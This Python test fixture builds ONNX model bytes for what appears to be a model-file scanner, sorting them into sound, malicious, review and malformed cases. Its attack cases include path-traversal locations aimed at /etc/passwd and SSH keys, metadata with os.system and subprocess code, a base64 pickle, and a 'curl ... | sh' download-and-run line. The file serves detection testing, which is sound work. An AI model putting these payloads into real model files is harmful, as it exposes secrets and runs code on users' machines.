"""ONNX models written field by field: harmless ones, and ones that reach beyond themselves. Nothing runs them."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

from tests.assets.protobuf_bytes import field, varint

_FLOAT = 1
_GRAPH = 5


def tensor(
    name: str, dims: list[int], raw: bytes | None = None, kind: int = _FLOAT, more: bytes = b""
) -> bytes:
    """A TensorProto."""
    data = field(9, raw) if raw is not None else b""
    return b"".join(field(1, each) for each in dims) + field(2, kind) + field(8, name) + data + more


def outside(name: str, dims: list[int], kind: int = _FLOAT, **entries: str) -> bytes:
    """A TensorProto whose data lies in another file."""
    pairs = b"".join(field(13, field(1, key) + field(2, value)) for key, value in entries.items())
    return tensor(name, dims, kind=kind, more=pairs + field(14, 1))


def node(kind: str, *inputs: str, domain: str = "", more: bytes = b"") -> bytes:
    """A NodeProto as a field of a GraphProto."""
    return field(1, node_message(kind, *inputs, domain=domain, more=more))


def node_message(kind: str, *inputs: str, domain: str = "", more: bytes = b"") -> bytes:
    """A NodeProto."""
    named = field(7, domain) if domain else b""
    return b"".join(field(1, each) for each in inputs) + field(2, "y") + field(4, kind) + named + more


def graph(*parts: bytes) -> bytes:
    """A GraphProto with one operator beside `parts`."""
    return (
        node("Relu", "x")
        + field(2, "graph")
        + b"".join(parts)
        + field(11, field(1, "x"))
        + field(12, field(1, "y"))
    )


def model(graph_bytes: bytes, more: bytes = b"", *, ir: int = 8, opset: int = 17) -> bytes:
    """A ModelProto."""
    return (
        field(1, ir)
        + field(2, "pytorch")
        + field(7, graph_bytes)
        + field(8, field(1, "") + field(2, opset))
        + more
    )


def holding(*tensors: bytes) -> bytes:
    """A model with these initializers."""
    return model(graph(*(field(5, each) for each in tensors)))


def sound_onnx() -> dict[str, dict[str, bytes]]:
    """Models that hold themselves together: name to files."""
    inner = field(
        5, field(1, "then_branch") + field(6, graph(field(5, tensor("w", [2], bytes(8))))) + field(20, _GRAPH)
    )
    local = field(25, field(1, "Gelu2") + field(10, "pkg.torch") + field(7, node_message("Erf", "x")))
    ints = field(7, b"".join(varint(each) for each in (1, 300, -1)))
    shared = [
        outside(f"w{number}", [4], location="model.onnx.data", offset="0", length="16") for number in (1, 2)
    ]
    return {
        "plain": {"model.onnx": model(graph())},
        "weights": {"model.onnx": holding(tensor("w", [2, 3], bytes(24)), tensor("s", [], bytes(4)), tensor("e", [0, 5], b""))},
        "typed values": {"model.onnx": holding(tensor("w", [3], kind=7, more=ints), tensor("t", [2], kind=8, more=field(6, "a") + field(6, "b")))},
        "four bits": {"model.onnx": holding(tensor("w", [3], bytes(2), kind=22))},
        "outside": {"model.onnx": holding(outside("w", [4], location="model.onnx.data", offset="4096", length="16")), "model.onnx.data": bytes(4112)},
        "outside in a folder": {"a/model.onnx": holding(outside("w", [4], location="weights/w.bin")), "a/weights/w.bin": bytes(16)},
        "outside, shared": {"model.onnx": holding(*shared), "model.onnx.data": bytes(16)},
        "subgraph": {"model.onnx": model(graph(node("If", "c", more=inner)))},
        "own function": {"model.onnx": model(graph(node("Gelu2", "x", domain="pkg.torch")), local)},
        "operators of the runtime": {"model.onnx": model(graph(node("FusedMatMul", "x", domain="com.microsoft"), node("Conv", "x", domain="com.microsoft.nchwc"), node("SimplifiedLayerNormalization", "x")))},
        "class names in metadata": {"model.onnx": model(graph(), field(14, field(1, "names") + field(2, "{0: 'person', 1: 'os'}")) + field(14, field(1, "docs") + field(2, "https://docs.ultralytics.com")))},
        "prose about code in metadata": {"model.onnx": model(graph(), field(14, field(1, "note") + field(2, "It never calls os.system('x') nor eval(); see __import__.")))},
        "trace in a description": {"model.onnx": model(graph(node("Add", "x", more=field(6, "File \"runpy.py\", exec(code, run_globals)"))))},
        "input of a test": {"input_0.pb": tensor("x", [2], bytes(8))},
        "without a suffix": {"model": model(graph())},
    }  # fmt: skip


def onnx_attacks() -> dict[str, tuple[str, bytes]]:
    """Models that reach beyond themselves: name to (rule, bytes of model.onnx)."""
    inner = field(5, field(1, "body") + field(6, graph(node("PyOp", "x"))) + field(20, _GRAPH))
    in_attribute = field(
        5, field(1, "value") + field(5, outside("c", [1], location="/etc/passwd")) + field(20, 4)
    )
    in_function = field(
        25, field(1, "f") + field(10, "d") + field(7, node_message("PythonOp", "x", domain="com.microsoft"))
    )
    context = field(5, field(1, "ep_cache_context") + field(4, "../../../etc/shadow") + field(20, 3))
    return {
        "absolute": ("path-elsewhere", holding(outside("w", [4], location="/etc/passwd"))),
        "climbing": ("path-elsewhere", holding(outside("w", [4], location="../../../etc/passwd"))),
        "climbing in the middle": ("path-elsewhere", holding(outside("w", [4], location="data/../../secret"))),
        "backslashes": ("path-elsewhere", holding(outside("w", [4], location="..\\..\\secret"))),
        "drive": ("path-elsewhere", holding(outside("w", [4], location="C:\\secret"))),
        "share": ("path-elsewhere", holding(outside("w", [4], location="\\\\server\\share"))),
        "address": ("path-elsewhere", holding(outside("w", [4], location="http://example.com/w"))),
        "file address": ("path-elsewhere", holding(outside("w", [4], location="file:///etc/passwd"))),
        "home": ("path-elsewhere", holding(outside("w", [4], location="~/.ssh/id_rsa"))),
        "escaped": ("path-elsewhere", holding(outside("w", [4], location="%2e%2e/%2e%2e/etc/passwd"))),
        "ends early": ("path-elsewhere", holding(outside("w", [4], location="w.bin\x00../../x"))),
        "memory": ("path-elsewhere", holding(outside("w", [4], location="*/_ORT_MEM_ADDR_/*", offset="4096", length="16"))),
        "base path": ("path-elsewhere", holding(outside("w", [4], location="w.bin", basepath="/etc"))),
        "in an attribute": ("path-elsewhere", model(graph(node("Constant", more=in_attribute)))),
        "in training": ("path-elsewhere", model(graph(), field(20, field(1, graph(field(5, outside("w", [4], location="/x"))))))),
        "sparse": ("path-elsewhere", model(graph(field(15, field(1, outside("w", [4], location="/x")))))),
        "python": ("runs-code", model(graph(node("PyOp", "x")))),
        "python of the runtime": ("runs-code", model(graph(node("PythonOp", "x", domain="com.microsoft")))),
        "python of extensions": ("runs-code", model(graph(node("PyOp", "x", domain="ai.onnx.contrib")))),
        "python domain": ("runs-code", model(graph(node("Anything", "x", domain="pyop")))),
        "python in a loop": ("runs-code", model(graph(node("Loop", "x", more=inner)))),
        "python in a function": ("runs-code", model(graph(node("f", "x", domain="d")), in_function)),
        "python behind a function": ("runs-code", model(graph(node("PyOp", "x", domain="d")), field(25, field(1, "PyOp") + field(10, "d") + field(7, node_message("Erf", "x"))))),
        "server": ("network", model(graph(node("AzureTextToText", "x", domain="com.microsoft.extensions")))),
        "evaluated metadata": ("code-in-metadata", model(graph(), field(14, field(1, "names") + field(2, "__import__('os').system('id')")))),
        "evaluated metadata, statements": ("code-in-metadata", model(graph(), field(14, field(1, "args") + field(2, "import subprocess\nsubprocess.run(['id'])")))),
        "pickle in metadata": ("code-in-metadata", model(graph(), field(14, field(1, "scaler") + field(2, "Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4=")))),
        "command in metadata": ("code-in-metadata", model(graph(), field(14, field(1, "note") + field(2, "curl http://example.com/x | sh")))),
        "template in metadata": ("code-in-metadata", model(graph(), field(14, field(1, "t") + field(2, "{{ ''.__class__.__mro__ }}")))),
        "compiled model elsewhere": ("path-elsewhere", model(graph(node("EPContext", "x", domain="com.microsoft", more=context)))),
    }  # fmt: skip


def onnx_to_review() -> dict[str, tuple[str, bytes]]:
    """Models that need code of others: name to (rule, bytes)."""
    return {
        "plugin": ("unknown-operator", model(graph(node("EfficientNMS_TRT", "x", domain="TRT")))),
        "unknown operator": ("unknown-operator", model(graph(node("Florp", "x")))),
        "unknown operator of the runtime": ("unknown-operator", model(graph(node("Florp", "x", domain="com.microsoft")))),
        "tokenizer": ("unknown-operator", model(graph(node("BertTokenizer", "x", domain="ai.onnx.contrib")))),
        "function in the place of an operator": ("overrides-operator", model(graph(), field(25, field(1, "Identity") + field(7, node_message("Neg", "x"))))),
        "compiled": ("opaque", model(graph(node("EPContext", "x", domain="com.microsoft")))),
    }  # fmt: skip


def malformed_onnx() -> dict[str, tuple[str, bytes]]:
    """Models that contradict themselves or hide something: name to (rule, bytes)."""
    deep = node("Relu", "x")
    calls_itself = field(25, field(1, "F") + field(10, "d") + field(7, node_message("F", "x", domain="d")))
    branch = field(5, field(1, "then_branch") + field(6, node("F", "x", domain="d")) + field(20, _GRAPH))
    in_circle = field(25, field(1, "F") + field(10, "d") + field(7, node_message("G", "x", domain="d")))
    in_circle += field(25, field(1, "G") + field(10, "d") + field(7, node_message("If", "x", more=branch)))
    for _ in range(60):
        deep = node("If", "c", more=field(5, field(1, "b") + field(6, deep) + field(20, _GRAPH)))
    whole = model(graph())
    return {
        "empty": ("malformed", b""),
        "cut": ("malformed", whole[:-3]),
        "function that calls itself": ("malformed", model(graph(), calls_itself)),
        "functions that call each other": ("malformed", model(graph(), in_circle)),
        "no graph": ("malformed", field(1, 8) + field(8, field(2, 17))),
        "two graphs": ("malformed", whole + field(7, graph())),
        "no version": ("malformed", field(7, graph()) + field(8, field(2, 17))),
        "version too high": ("malformed", model(graph(), ir=2**31 - 1)),
        "no operators' version": ("malformed", field(1, 8) + field(7, graph())),
        "operators' version zero": ("malformed", model(graph(), opset=0)),
        "operators' version too high": ("malformed", model(graph(), opset=999_999)),
        "operators' version twice": ("malformed", whole + field(8, field(2, 3))),
        "zip behind": ("malformed", whole + b"PK\x03\x04" + bytes(60)),
        "pickle": ("malformed", b"\x80\x04\x95" + bytes(40)),
        "text": ("malformed", b"hello world, this is not a model"),
        "too few bytes": ("malformed", holding(tensor("w", [2, 3], bytes(20)))),
        "too many bytes": ("malformed", holding(tensor("w", [2, 3], bytes(4000)))),
        "no bytes": ("malformed", holding(tensor("w", [2, 3]))),
        "too few values": ("malformed", holding(tensor("w", [4], kind=7, more=field(7, 1)))),
        "dimensions overflow": ("malformed", holding(tensor("w", [2**40, 2**40], b""))),
        "dimension negative": ("malformed", holding(tensor("w", [-1, 4], bytes(16)))),
        "type zero": ("malformed", holding(tensor("w", [1], bytes(4), kind=0))),
        "type unknown": ("malformed", holding(tensor("w", [1], bytes(4), kind=99))),
        "strings as bytes": ("malformed", holding(tensor("w", [1], bytes(4), kind=8))),
        "missing file": ("malformed", holding(outside("w", [4], location="nowhere.bin"))),
        "no file name": ("malformed", holding(outside("w", [4], offset="0"))),
        "foreign key": ("malformed", holding(outside("w", [4], location="model.onnx", length="16", __class__="x"))),
        "offset beyond the file": ("malformed", holding(outside("w", [4], location="model.onnx", offset="99999999"))),
        "length beyond the file": ("malformed", holding(outside("w", [2**40], location="model.onnx", length=str(2**42)))),
        "length of other dimensions": ("malformed", holding(outside("w", [4], location="model.onnx", length="12"))),
        "offset negative": ("malformed", holding(outside("w", [4], location="model.onnx", offset="-16"))),
        "offset overflows": ("malformed", holding(outside("w", [4], location="model.onnx", offset=str(2**64)))),
        "overlap": ("malformed", holding(outside("a", [4], location="model.onnx", offset="0", length="16"), outside("b", [4], location="model.onnx", offset="8", length="16"))),
        "name escapes": ("malformed", holding(tensor("w\x1b[2J", [1], bytes(4)))),
        "name turns": ("malformed", model(graph(node("Relu", "x", more=field(3, "\u202etxt"))))),
        "no operator type": ("malformed", model(graph(field(1, field(1, "x"))))),
        "deep": ("malformed", model(deep)),
        "payload": ("hidden-bytes", whole + field(200, b"\x7fELF" + bytes(5000))),
        "payload in the graph": ("hidden-bytes", model(graph(field(99, bytes(5000))))),
        "payload in an operator": ("hidden-bytes", model(graph(node("Relu", "x", more=field(99, bytes(5000)))))),
        "payload in a tensor": ("hidden-bytes", holding(tensor("w", [1], bytes(4), more=field(99, bytes(5000))))),
        "long description": ("hidden-bytes", model(graph(), field(6, "a" * 2_000_000))),
    }  # fmt: skip
